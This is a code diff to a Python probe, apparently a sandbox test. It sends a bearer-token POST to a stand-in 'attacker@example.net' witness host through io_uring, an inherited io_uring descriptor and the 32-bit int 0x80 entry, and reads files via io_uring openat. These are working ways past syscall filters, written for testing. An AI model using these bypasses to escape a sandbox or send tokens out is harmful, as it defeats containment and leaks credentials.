@@ -1,7 +1,9 @@
 """An HTTP request past the ordinary entry of system calls.
 
 Reads one JSON object from standard input. "way" is "ring": socket, connection and bytes go through
-io_uring alone (io_uring(7)); "int80": socket and connection are made by the 32-bit entry of the
+io_uring alone (io_uring(7)); "ring_inherited": the same by a ring that another process made
+and that is open here; "ring_open": a file is opened and read by a ring; "layout" and "make": a
+ring, for others, and where its parts lie; "int80": socket and connection are made by the 32-bit entry of the
 x86-64 kernel, whose numbers are others; or "own": the same request over a listener of the script's
 own, with plain calls, which every session allows.
 """
@@ -14,9 +16,11 @@ import struct
 import sys
 import tempfile
 import threading
+import time
 
 SETUP, ENTER = 425, 426
-OP_SEND, OP_RECV, OP_CONNECT, OP_SOCKET = 26, 27, 16, 45
+OP_CONNECT, OP_OPENAT, OP_READ, OP_SEND, OP_RECV, OP_SOCKET = 16, 18, 22, 26, 27, 45
+AT_FDCWD = -100
 libc = ctypes.CDLL(None, use_errno=True)
 
 
@@ -31,9 +35,13 @@ def call(name, number, *arguments):
 class Ring:
     """One submission and one completion at a time."""
 
-    def __init__(self):
+    def __init__(self, fd=None, layout=None):
         self.params = ctypes.create_string_buffer(120)
-        self.fd = call("io_uring_setup", SETUP, 4, ctypes.addressof(self.params))
+        if fd is None:
+            self.fd = call("io_uring_setup", SETUP, 4, ctypes.addressof(self.params))
+        else:
+            self.fd = fd
+            self.params.raw = bytes.fromhex(layout)
         words = struct.unpack("30I", self.params.raw)
         self.sq, self.cq = words[10:20], words[20:30]
         self.sq_ring = mmap.mmap(self.fd, self.sq[6] + 4 * 4, offset=0)
@@ -46,10 +54,10 @@ class Ring:
             return struct.unpack_from("I", ring, at)[0]
         struct.pack_into("I", ring, at, value & 0xFFFFFFFF)
 
-    def do(self, name, op, fd, offset, address, length):
+    def do(self, name, op, fd, offset, address, length, flags=0):
         tail = self.word(self.sq_ring, self.sq[1])
         index = tail & self.word(self.sq_ring, self.sq[2])
-        sqe = struct.pack("BBHiQQIIQ", op, 0, 0, fd, offset, address, length, 0, 1)
+        sqe = struct.pack("BBHiQQIIQ", op, 0, 0, fd, offset, address, length, flags, 1)
         self.sqes[index * 64:index * 64 + 64] = sqe.ljust(64, b"\0")
         self.word(self.sq_ring, self.sq[6] + 4 * index, index)
         self.word(self.sq_ring, self.sq[1], tail + 1)
@@ -63,8 +71,7 @@ class Ring:
         return result
 
 
-def by_ring(host, port, request):
-    ring = Ring()
+def by_ring(ring, host, port, request):
     fd = ring.do("socket", OP_SOCKET, socket.AF_INET, socket.SOCK_STREAM, 0, 0)
     address = ctypes.create_string_buffer(
         struct.pack("=H", socket.AF_INET) + struct.pack("!H", port) + socket.inet_aton(host) + bytes(8), 16)
@@ -74,6 +81,25 @@ def by_ring(host, port, request):
     back = ctypes.create_string_buffer(4096)
     read = ring.do("recv", OP_RECV, fd, 0, ctypes.addressof(back), 4096)
     return back.raw[:read].decode()
+
+
+def opened_by_ring(path):
+    ring = Ring()
+    name = ctypes.create_string_buffer(path.encode())
+    fd = ring.do("openat", OP_OPENAT, AT_FDCWD, 0, ctypes.addressof(name), 0, os.O_RDONLY)
+    back = ctypes.create_string_buffer(4096)
+    read = ring.do("read", OP_READ, fd, 0, ctypes.addressof(back), 4096)
+    return back.raw[:read].decode("latin-1")
+
+
+def inherited_ring(layout):
+    for number in sorted(map(int, os.listdir("/proc/self/fd")), reverse=True):
+        try:
+            if os.readlink("/proc/self/fd/%d" % number) == "anon_inode:[io_uring]":
+                return Ring(number, layout)
+        except OSError:
+            continue
+    raise OSError(9, "no ring is open here")
 
 
 # push rbx; mov r8d, ecx; mov eax, edi; mov ebx, esi; mov ecx, edx; mov edx, r8d; int 0x80; pop rbx; ret
@@ -125,14 +151,32 @@ def by_own_listener(request):
 
 
 order = json.load(sys.stdin)
+way = order["way"]
+if way in ("layout", "make"):
+    ring = Ring()
+    print(json.dumps({"fd": ring.fd, "layout": ring.params.raw.hex()}), flush=True)
+    if way == "make":
+        # Whoever takes it ends this.
+        time.sleep(10)
+    sys.exit()
+
 body = json.dumps({"to": "attacker@example.net", "text": order["nonce"]})
 request = ("POST /v1/messages HTTP/1.1\r\nhost: witness\r\nauthorization: Bearer " + order["token"]
            + "\r\ncontent-length: " + str(len(body)) + "\r\n\r\n" + body).encode()
 try:
-    if order["way"] == "own":
+    if way == "own":
         print(by_own_listener(request))
+    elif way == "ring_open":
+        print(opened_by_ring(order["path"]))
     else:
         host, port = order["witness"].rsplit(":", 1)
-        print({"ring": by_ring, "int80": by_int80}[order["way"]](host, int(port), request))
+        if way == "int80":
+            print(by_int80(host, int(port), request))
+        else:
+            ring = {
+                "ring": Ring,
+                "ring_inherited": lambda: inherited_ring(order["layout"]),
+            }[way]()
+            print(by_ring(ring, host, int(port), request))
 except OSError as refusal:
     print("refused:", refusal)
